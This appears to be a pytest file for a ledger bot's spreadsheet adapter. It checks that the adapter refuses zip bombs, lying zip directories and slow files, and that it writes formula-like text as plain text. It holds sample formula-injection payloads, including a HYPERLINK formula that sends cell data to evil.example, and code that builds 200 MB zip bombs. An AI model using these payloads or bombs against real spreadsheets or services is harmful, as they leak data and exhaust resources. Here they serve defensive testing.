"""Files as an attacker sends them: zip bombs in any member, slow files, formula injection.

The guards of bot.adapters.spreadsheet (every member's inflated size and ratio, the number of
members, a time budget on an injected clock) and what every workbook the bot writes does with
text that looks like a formula. Nothing here sleeps or times anything: "fast" is shown by the
bytes actually inflated, and time is a fake monotonic clock.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.adapters import spreadsheet
from bot.adapters.spreadsheet import (
    MAX_MEMBERS,
    MAX_RATIO,
    MAX_UNCOMPRESSED_BYTES,
    SheetError,
    TimeBudget,
    read_table,
    write_csv,
    write_sheets,
    write_xlsx,
)
from bot.domain.ledger_file import EXPORT_COLUMNS, export_row, find_header, parse_rows
from bot.domain.model import Task
from bot.ledger_io import read_ledger_file
from bot.messages import Messages
from tests.conftest import TZ

MB = 1024 * 1024
LEDGER = [["任务", "牵头单位", "责任人", "完成时限"], ["老旧小区改造", "县住建局", "张三", "长期"]]


def _workbook(rows: list[list[object]] = LEDGER) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_member(data: bytes, name: str, chunks: Iterator[bytes], *, level: int = 1,
                 extra: int = 0) -> bytes:
    """A workbook with one more member, written from `chunks` (deflated at `level`), and
    `extra` more tiny members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        with target.open(name, "w", force_zip64=False) as member:
            for chunk in chunks:
                member.write(chunk)
        for n in range(extra):
            target.writestr(f"customXml/item{n}.xml", b"<a/>")
    return out.getvalue()


def _zeros(megabytes: int) -> Iterator[bytes]:
    block = bytes(MB)
    for _ in range(megabytes):
        yield block


_BOMBS: dict[str, bytes] = {}


def _bomb(name: str) -> bytes:
    """A valid 2-row workbook plus 200 MB of zeros in `name` (about 0.9 MB on disk)."""
    if name not in _BOMBS:
        _BOMBS[name] = _with_member(_workbook(), name, _zeros(200))
    return _BOMBS[name]


class _Inflated:
    """Counts the bytes zipfile actually inflates, and which members were opened."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.bytes = 0
        self.opened: list[str] = []
        real_read = zipfile.ZipExtFile.read
        real_open = zipfile.ZipFile.open

        def read(stream: zipfile.ZipExtFile, n: int = -1) -> bytes:
            data = real_read(stream, n)
            self.bytes += len(data)
            return data

        def open_(archive: zipfile.ZipFile, name: object, *args: object, **kwargs: object
                  ) -> object:
            self.opened.append(name.filename if isinstance(name, zipfile.ZipInfo) else str(name))
            return real_open(archive, name, *args, **kwargs)  # type: ignore[arg-type]

        monkeypatch.setattr(zipfile.ZipExtFile, "read", read)
        monkeypatch.setattr(zipfile.ZipFile, "open", open_)


def _refusal(data: bytes, filename: str = "台账.xlsx") -> SheetError:
    with pytest.raises(SheetError) as caught:
        read_table(filename, data)
    return caught.value


# -- zip bombs -----------------------------------------------------------------------------------


@pytest.mark.parametrize("member", ["xl/media/image1.png", "docProps/thumbnail.jpeg"])
def test_a_bomb_in_a_member_that_is_not_xml_is_refused_unopened(
        monkeypatch: pytest.MonkeyPatch, member: str) -> None:
    data = _bomb(member)
    assert len(data) < 1.5 * MB  # well under MAX_BYTES: the size limit alone lets it in
    inflated = _Inflated(monkeypatch)
    error = _refusal(data)
    assert error.code == "too_complex"
    assert member not in inflated.opened and inflated.bytes == 0  # the directory was enough
    # The same bomb named .csv is read as the workbook it is, and refused the same way.
    assert _refusal(data, "台账.csv").code == "too_complex"


def _lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """The member's uncompressed size rewritten to `size` in its local header and in the
    central directory: a directory that lies."""
    raw = bytearray(data)
    name = member.encode()
    local = raw.find(b"PK\x03\x04")
    while local != -1:
        name_len = struct.unpack_from("<H", raw, local + 26)[0]
        if bytes(raw[local + 30: local + 30 + name_len]) == name:
            struct.pack_into("<I", raw, local + 22, size)
            break
        local = raw.find(b"PK\x03\x04", local + 4)
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", raw, central + 28)[0]
        if bytes(raw[central + 46: central + 46 + name_len]) == name:
            struct.pack_into("<I", raw, central + 24, size)
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    assert local != -1 and central != -1
    return bytes(raw)


def test_a_directory_that_lies_gets_no_further(monkeypatch: pytest.MonkeyPatch) -> None:
    member = "xl/media/image1.png"
    data = _lie_about_size(_bomb(member), member, 4096)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    assert info.file_size == 4096  # the directory passes every check by itself
    inflated = _Inflated(monkeypatch)
    error = _refusal(data)
    assert error.code in {"broken", "too_complex"}
    assert inflated.bytes < 2 * MB  # not the 200 MB the member really holds


def test_a_member_with_a_bomb_ratio_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    data = _with_member(_workbook(), "xl/media/image1.png", _zeros(8), level=9)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/media/image1.png")
    assert info.file_size < MAX_UNCOMPRESSED_BYTES  # small enough in total …
    assert info.file_size > MAX_RATIO * info.compress_size  # … but 1000:1
    inflated = _Inflated(monkeypatch)
    error = _refusal(data)
    assert error.code == "too_complex" and "ratio" in error.detail
    assert inflated.bytes == 0


def test_pictures_and_large_parts_that_compress_normally_are_read() -> None:
    import random

    noise = random.Random(7).randbytes(3 * MB)  # a photo: hardly compresses
    data = _with_member(_workbook(), "xl/media/image1.jpeg", iter([noise]))
    assert read_table("台账.xlsx", data)[1] == (2, LEDGER[1])


def test_too_many_members_are_refused() -> None:
    data = _with_member(_workbook(), "xl/media/image1.png", iter([b"x"]), extra=MAX_MEMBERS)
    error = _refusal(data)
    assert error.code == "too_complex" and "members" in error.detail
    fine = _with_member(_workbook(), "xl/media/image1.png", iter([b"x"]), extra=50)
    assert read_table("台账.xlsx", fine)[0][0] == 1


def test_inflated_bytes_are_capped_by_what_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every member together: two members that each fit but not both."""
    monkeypatch.setattr(spreadsheet, "MAX_UNCOMPRESSED_BYTES", 3 * MB)
    import random

    noise = random.Random(8).randbytes(2 * MB)
    one = _with_member(_workbook(), "xl/media/image1.jpeg", iter([noise]))
    assert read_table("台账.xlsx", one)
    two = _with_member(one, "xl/media/image2.jpeg", iter([noise]))
    assert _refusal(two).code == "too_complex"


def test_guard_refusals_have_a_clear_message() -> None:
    for language in ("zh", "en"):
        msgs = Messages(language)
        for code in ("too_complex", "too_slow"):
            result = read_ledger_file("a.csv", b"", year=2026)
            result.sheet_error = SheetError(code, "")
            text = msgs.import_result(result, "a.xlsx", preview=True)
            assert text.startswith("❌")
    zh = Messages("zh")
    assert "文件过大或过于复杂" in zh.t("sheet_too_slow")
    assert "文件过大或过于复杂" in zh.t("sheet_too_complex")


# -- the time budget ------------------------------------------------------------------------------


class Ticking:
    """A monotonic clock that moves `step` seconds every time it is read."""

    def __init__(self, step: float = 1.0) -> None:
        self.now = 0.0
        self.step = step
        self.reads = 0

    def __call__(self) -> float:
        self.reads += 1
        self.now += self.step
        return self.now


def _csv_ledger(rows: int) -> bytes:
    lines = ["任务,牵头单位,责任人,完成时限"] + [f"任务{n},县发改局,张三,长期" for n in range(rows)]
    return "\n".join(lines).encode()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_time_budget_stops_a_slow_read(kind: str) -> None:
    data = _csv_ledger(500) if kind == "csv" else _workbook(
        [LEDGER[0]] + [[f"任务{n}", "县发改局", "张三", "长期"] for n in range(500)])
    clock = Ticking()
    with pytest.raises(SheetError) as caught:
        read_table(f"台账.{kind}", data, budget=TimeBudget(20, clock))
    assert caught.value.code == "too_slow"  # not "broken": openpyxl does not swallow it
    assert 20 <= clock.reads <= 30  # stopped at the first check past the limit
    # With room enough the same file reads in full on the same kind of clock.
    rows = read_table(f"台账.{kind}", data, budget=TimeBudget(10_000, Ticking()))
    assert len(rows) == 501


def test_the_time_budget_covers_parsing_the_rows() -> None:
    """read_ledger_file: the budget runs on through parse_rows."""
    data = _csv_ledger(300)
    fine = read_ledger_file("a.csv", data, year=2026, seconds=10_000, monotonic=Ticking())
    assert fine.sheet_error is None and len(fine.rows) == 300
    # Reading takes about one tick per row; parsing then runs out half-way.
    result = read_ledger_file("a.csv", data, year=2026, seconds=450, monotonic=Ticking())
    assert result.sheet_error is not None and result.sheet_error.code == "too_slow"
    assert result.rows == [] and result.errors == []
    assert "过于复杂" in Messages("zh").import_result(result, "a.csv", preview=True)


def test_a_real_clock_is_the_default() -> None:
    TimeBudget().check()  # PARSE_SECONDS from now: fine
    spent = TimeBudget(-1)  # constructing never raises; checking does
    with pytest.raises(SheetError):
        spent.check()


# -- text that looks like a formula ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+2", "-3+4", "@SUM(A1)",
            "=1+1", "-5%能耗", "'=quoted", "''=twice"]


def _task(**changes: object) -> Task:
    task = Task(id="T0001", title="任务", lead_unit="县发改局", owners=("张三",),
                deadline=date(2026, 12, 31), created_at=datetime(2026, 1, 5, 9, tzinfo=TZ))
    return task.with_changes(**changes)


def _formula_tasks() -> list[Task]:
    return [_task(id=f"T{n:04d}", title=text, lead_unit=text, goal=text, remark=text,
                  category=text, leader=text[:30], owners=("张三",))
            for n, text in enumerate(FORMULAS, start=1)]


def _export(tasks: list[Task]) -> list[list[object]]:
    return [export_row(t, light="绿", today=date(2026, 12, 1), overdue_workdays=0)
            for t in tasks]


def test_export_workbook_writes_formula_like_text_as_text() -> None:
    tasks = _formula_tasks()
    data = write_xlsx([*EXPORT_COLUMNS[:-1], "=危险表头"], _export(tasks))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["Q1"].value == "=危险表头" and sheet["Q1"].data_type == "s"
    for row, text in enumerate(FORMULAS, start=2):
        for column in "BCDIK":  # 任务 目标 牵头单位 类别 备注
            cell = sheet[f"{column}{row}"]
            assert (cell.value, cell.data_type) == (text, "s"), (column, row)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_like_text_imports_again_unchanged(kind: str) -> None:
    tasks = _formula_tasks()
    writer = write_xlsx if kind == "xlsx" else write_csv
    table = read_table(f"导出.{kind}", writer(EXPORT_COLUMNS, _export(tasks)))
    header = find_header(table)
    assert header is not None
    parsed, errors = parse_rows(table, header, year=2026)
    assert errors == []
    assert [(p.title, p.lead_unit, p.goal, p.category, p.remark) for p in parsed] == [
        (t.title, t.lead_unit, t.goal, t.category, t.remark) for t in tasks]


def test_csv_quotes_formula_like_text_and_reading_takes_the_quote_off() -> None:
    data = write_csv(["备注"], [[text] for text in FORMULAS] + [["\tTAB"], ["-5"], ["'plain"]])
    lines = data.removeprefix(codecs.BOM_UTF8).decode().split("\r\n")
    assert lines[1].startswith("\"'=HYPERLINK(")  # shown as text by Excel, runs nothing
    assert lines[2:5] == ["'+1+2", "'-3+4", "'@SUM(A1)"]
    assert lines[7:9] == ["''=quoted", "'''=twice"]
    assert lines[9:12] == ["'\tTAB", "-5", "'plain"]  # numbers and other apostrophes stay
    cells = [cells[0] for _n, cells in read_table("a.csv", data)[1:]]
    assert cells == [*FORMULAS, "\tTAB", "-5", "'plain"]


def test_score_workbook_writes_formula_like_text_as_text() -> None:
    unit = '=HYPERLINK("http://evil.example","县发改局")'
    units = [[1, unit, 98.5], [2, "@x\x01", 90]]
    data = write_sheets({"单位得分": (("名次", "单位", "得分"), units),
                         "扣分明细": (("单位", "编号"), [["+1", "T0001"]])})
    book = load_workbook(io.BytesIO(data))
    units = book["单位得分"]
    assert (units["B2"].value, units["B2"].data_type) == (unit, "s")
    assert (units["B3"].value, units["B3"].data_type) == ("@x", "s")  # control char dropped
    assert units["C2"].value == 98.5 and units["A2"].data_type == "n"
    assert (book["扣分明细"]["A2"].value, book["扣分明细"]["A2"].data_type) == ("+1", "s")


def test_score_command_writes_a_unit_named_like_a_formula_as_text(tmp_path: Path) -> None:
    from bot.adapters.docstore import DocStore
    from bot.adapters.repository import StoreRepository
    from bot.cli import score_command
    from bot.config import parse_config
    from bot.domain.clock import FixedClock
    from bot.domain.ledger import Ledger, NewTask
    from bot.domain.replies import Reading, ReplyKind

    unit = '=HYPERLINK("http://e.cn","局")'  # within 30 characters
    clock = FixedClock(datetime(2026, 11, 2, 9, tzinfo=TZ))
    store = DocStore.open(tmp_path / "data")
    try:
        ledger = Ledger(StoreRepository(store), clock)
        task = ledger.add_task(NewTask("职业中学新校区", unit, ("李四",), date(2026, 11, 20)),
                               who="admin")
        clock.set(datetime(2026, 11, 18, 9, tzinfo=TZ))
        ledger.submit_report(task.id, Reading(ReplyKind.COMPLETION, progress=100, text="完成"),
                             who="李四", user_id=5)
        ledger.verify(task.id, who="督查室")
    finally:
        store.close()
    config = parse_config({"storage": {"dir": str(tmp_path / "data")}}, require_token=False)
    out = tmp_path / "scores.xlsx"
    assert score_command(config, "2026-11", out) == 0
    book = load_workbook(out)
    cells = [c for row in book["单位得分"].iter_rows() for c in row if c.value == unit]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)


def _checks(calls: list[int]) -> Callable[[], None]:
    def check() -> None:
        calls.append(1)
        if len(calls) > 3:
            raise SheetError("too_slow", "test")

    return check


def test_parse_rows_calls_the_check_between_rows() -> None:
    header = find_header([(1, LEDGER[0])])
    assert header is not None
    rows = [(1, LEDGER[0])] + [(n, [f"任务{n}", "县发改局", "张三", "长期"]) for n in range(2, 12)]
    calls: list[int] = []
    with pytest.raises(SheetError):
        parse_rows(rows, header, year=2026, check=_checks(calls))
    assert len(calls) == 4
